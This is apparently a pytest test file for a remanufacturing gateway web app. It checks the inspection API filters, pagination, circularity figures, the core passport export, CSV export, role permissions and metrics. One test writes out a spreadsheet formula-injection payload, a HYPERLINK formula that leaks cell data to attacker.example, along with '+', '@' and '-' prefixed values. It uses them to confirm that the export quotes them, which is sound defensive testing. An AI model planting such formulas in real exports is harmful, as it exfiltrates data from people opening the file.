"""JSON API, CSV export, passport, circularity figures, metrics: a gateway over a known store."""

from __future__ import annotations

import csv
import io
import re

import pytest

from gateway.auth import PERMISSIONS
from gateway.server import Gateway
from gateway.store import Batch
from tests.conftest import REPO
from tests.gateway.conftest import ROLES, login, make_config
from tests.gateway.records import overridden, record

C1_FIRST = record(station="st-a", core_id="C1", code=1, minutes=0, impact=(4.2, 11.5))
C1_SECOND = record(station="st-b", core_id="C1", code=2, minutes=50, impact=(2.0, 5.0))
C1_OVERRIDDEN = overridden(
    C1_SECOND, 3, user="erin", reason="housing cracked at the flange", impact=(0.0, 0.4)
)
RECORDS = [
    C1_FIRST,
    record(station="st-a", core_id="C2", code=2, minutes=10, impact=(3.0, 6.0)),
    record(station="st-a", core_id="C3", code=3, minutes=20, impact=(0.0, 0.5)),
    record(station="st-a", core_id="PUMP-77", code=4, minutes=30, family=None, impact=None),
    record(station="st-b", core_id="C4", code=1, minutes=40, family="starter-motor", impact=None),
    C1_SECOND,
    record(station="st-c", core_id="S9", code=1, minutes=45, family="starter-motor", impact=None),
]


@pytest.fixture(scope="module")
def api(tmp_path_factory, module_store):
    """A gateway without MQTT over a store holding RECORDS; C1's second inspection overridden."""
    tmp = tmp_path_factory.mktemp("api")
    store = module_store
    store.write(Batch(inspections=RECORDS))
    gw = Gateway(make_config(tmp), store=store, mqtt=False).start()
    yield gw
    gw.stop()


@pytest.fixture(scope="module")
def erin(api):
    client = login(api.url, "erin")
    yield client
    client.close()


def _ids(resp) -> list[str]:
    assert resp.status_code == 200, resp.text
    return [item["core_id"] for item in resp.json()["items"]]


def test_api_needs_a_login(api):
    import httpx

    assert httpx.get(f"{api.url}/api/inspections").status_code == 401


@pytest.mark.parametrize(
    "params,cores",
    [
        ({}, ["C1", "S9", "C4", "PUMP-77", "C3", "C2", "C1"]),
        ({"station": "st-a"}, ["PUMP-77", "C3", "C2", "C1"]),
        ({"code": "REUSE"}, ["S9", "C4", "C1"]),
        ({"code": "2"}, ["C1", "C2"]),
        ({"family": "starter-motor"}, ["S9", "C4"]),
        ({"q": "PUMP"}, ["PUMP-77"]),
        ({"q": "corrosion"}, ["C3"]),
        ({"since": "2026-11-28T08:10:00Z", "until": "2026-11-28T08:30:00Z"}, ["C3", "C2"]),
        ({"station": "st-a", "code": "RECYCLE"}, ["C3"]),
    ],
)
def test_inspection_filters(erin, params, cores):
    assert _ids(erin.get("/api/inspections", params=params)) == cores


def test_pages_follow_the_cursor_without_gaps(erin):
    seen, cursor = [], None
    while True:
        body = erin.get(
            "/api/inspections", params={"limit": 3, **({"cursor": cursor} if cursor else {})}
        ).json()
        seen += [i["id"] for i in body["items"]]
        assert body["count"] == len(RECORDS) and body["count_capped"] is False
        cursor = body["next_cursor"]
        if cursor is None:
            break
    assert sorted(seen) == sorted(r.id for r in RECORDS) and len(seen) == len(set(seen))


def test_bad_filter_is_a_400(erin):
    assert erin.get("/api/inspections", params={"code": "SCRAP"}).status_code == 400
    assert erin.get("/api/inspections", params={"since": "yesterday"}).status_code == 400


def test_one_inspection_and_stations(erin):
    body = erin.get(f"/api/inspections/{C1_FIRST.id}").json()
    assert body["record"]["core_id"] == "C1" and body["audit"] == []
    assert erin.get("/api/inspections/nope").status_code == 404
    assert [s["station"] for s in erin.get("/api/stations").json()] == ["st-a", "st-b", "st-c"]


def test_circularity_figures_per_station(erin):
    body = erin.get("/api/circularity", params={"station": "st-a"}).json()
    assert body["cores"] == 4
    assert body["by_disposition"] == {
        "NONE": 0,
        "REUSE": 1,
        "REMANUFACTURE": 1,
        "RECYCLE": 1,
        "REVIEW": 1,
    }
    assert body["reuse_rate"] == pytest.approx(1 / 3, abs=1e-4)
    assert body["remanufacture_rate"] == pytest.approx(1 / 3, abs=1e-4)
    assert body["material_kept_kg"] == pytest.approx(7.2)
    assert body["co2e_avoided_kg"] == pytest.approx(18.0)
    assert (body["impact_known_cores"], body["impact_unknown_cores"]) == (3, 1)


def test_family_without_figures_is_unknown_not_zero(api, erin):
    body = erin.get("/api/circularity", params={"station": "st-c"}).json()
    assert body["cores"] == 1 and body["impact_unknown_cores"] == 1
    assert body["material_kept_kg"] is None and body["co2e_avoided_kg"] is None
    page = erin.get("/circularity", params={"station": "st-c", "period": "all"}).text
    assert 'id="fig-material"><span class="unknown">unknown</span>' in page


def test_override_changes_the_figures(api, erin):
    before = erin.get("/api/circularity", params={"station": "st-b"}).json()
    assert (
        before["material_kept_kg"] == pytest.approx(2.0)
        and before["by_disposition"]["REMANUFACTURE"] == 1
    )
    api.store.write(Batch(inspections=[C1_OVERRIDDEN]))
    after = erin.get("/api/circularity", params={"station": "st-b"}).json()
    assert after["material_kept_kg"] == pytest.approx(0.0) and after[
        "co2e_avoided_kg"
    ] == pytest.approx(0.4)
    assert after["by_disposition"]["RECYCLE"] == 1 and after["by_disposition"]["REMANUFACTURE"] == 0


def test_passport_lists_every_inspection_in_order(api, erin):
    api.store.write(Batch(inspections=[C1_OVERRIDDEN]))
    body = erin.get("/api/cores/C1/passport").json()
    assert body["unique_identifier"]["core_id"] == "C1"
    assert [i["id"] for i in body["inspections"]] == [C1_FIRST.id, C1_SECOND.id]
    last = body["inspections"][-1]
    assert body["tier"] == "legitimate_interest"  # an engineer: overrides without who and why
    assert last["overrides"][0]["code"] == 3 and "user" not in last["overrides"][0]
    assert erin.get("/api/cores/C1/passport", params={"tier": "authority"}).status_code == 403
    assert body["status"]["label"] == "RECYCLE"
    env = erin.get("/api/cores/C1/passport", params={"format": "aas"}).json()
    [shell] = env["assetAdministrationShells"]
    assert shell["assetInformation"]["globalAssetId"] == "urn:reman-edge:core:C1"
    assert {s["idShort"] for s in env["submodels"]} >= {"Nameplate", "RemanufacturingRecord"}
    package = erin.get("/api/cores/C1/passport", params={"format": "aasx"})
    assert package.status_code == 200 and package.content[:2] == b"PK"
    assert 'filename="C1.aasx"' in package.headers["content-disposition"]
    assert erin.get("/api/cores/NOPE/passport").status_code == 404


def test_csv_export_of_the_filtered_set_with_impact_columns(erin):
    resp = erin.get("/history.csv", params={"station": "st-a"})
    assert resp.status_code == 200 and resp.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(resp.text)))
    assert [r["core_id"] for r in rows] == ["PUMP-77", "C3", "C2", "C1"]
    by_core = {r["core_id"]: r for r in rows}
    assert by_core["C1"]["material_kept_kg"] == "4.2" and by_core["C1"]["co2e_avoided_kg"] == "11.5"
    assert (
        by_core["PUMP-77"]["impact_known"] == "no" and by_core["PUMP-77"]["material_kept_kg"] == ""
    )


def test_csv_export_quotes_text_a_spreadsheet_would_run_and_keeps_numbers(tmp_path, make_store):
    formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"click for details")'
    rec = record(station="st-x", core_id="X1", family="+SUM(A1:A9)", part_number="@cmd")
    rec = overridden(rec, 3, user="-eve", reason=formula, impact=(0.0, -0.4))
    store = make_store()
    store.write(Batch(inspections=[rec]))
    with Gateway(make_config(tmp_path), store=store, mqtt=False) as gw:
        resp = login(gw.url, "erin").get("/history.csv")
    [row] = csv.DictReader(io.StringIO(resp.text))
    assert row["override_reason"] == "'" + formula
    assert (row["override_user"], row["family"], row["part_number"]) == (
        "'-eve",
        "'+SUM(A1:A9)",
        "'@cmd",
    )
    assert (row["co2e_avoided_kg"], row["effective_code"], row["core_id"]) == ("-0.4", "3", "X1")


def test_operator_may_not_export(api):
    olly = login(api.url, "olly")
    assert olly.get("/history.csv").status_code == 403
    assert olly.get("/api/events").status_code == 403
    olly.close()


def readme_roles() -> dict[str, str]:
    """The role table of gateway/README.md: role -> what it may."""
    text = (REPO / "gateway/README.md").read_text()
    table = text.split("| role | may |", 1)[1].split("\n\n", 1)[0]
    return dict(re.findall(r"^\| (\w+) \| (.+) \|$", table, re.M))


def test_readme_role_table_says_which_pages_each_role_sees(api):
    rows = readme_roles()
    assert set(rows) == set(PERMISSIONS)
    for user, role in ROLES.items():
        client = login(api.url, user)
        events = client.get("/events").status_code
        assert events == (200 if "events" in PERMISSIONS[role] else 403), role
        assert ("but Events" in rows[role]) == (events == 403), rows[role]
        assert ('href="/events"' in client.get("/").text) == (events == 200), role
        for path in PAGES:
            if path != "/events":
                assert client.get(path).status_code == 200, (role, path)
        client.close()


def test_metrics_and_healthz(api, erin):
    import httpx

    text = httpx.get(f"{api.url}/metrics").text
    assert 'reman_gateway_inspections{code="1",label="REUSE"} 3' in text
    assert "reman_gateway_malformed_total" in text and "reman_gateway_stations_online 0" in text
    assert httpx.get(f"{api.url}/healthz").json() == {"status": "ok"}
    paths = erin.get("/openapi.json").json()["paths"]
    assert {
        "/api/inspections",
        "/api/inspections/{inspection_id}",
        "/api/stations",
        "/api/circularity",
        "/api/cores/{core_id}/passport",
    } <= set(paths)


PAGES = [
    "/",
    "/live/st-a",
    "/history",
    f"/inspections/{C1_FIRST.id}",
    "/health",
    "/events",
    "/trends?period=all",
    "/circularity?period=all",
]


@pytest.mark.parametrize("path", PAGES)
def test_every_page_renders(erin, path):
    resp = erin.get(path)
    assert resp.status_code == 200, resp.text[:500]
    assert "reman-edge" in resp.text
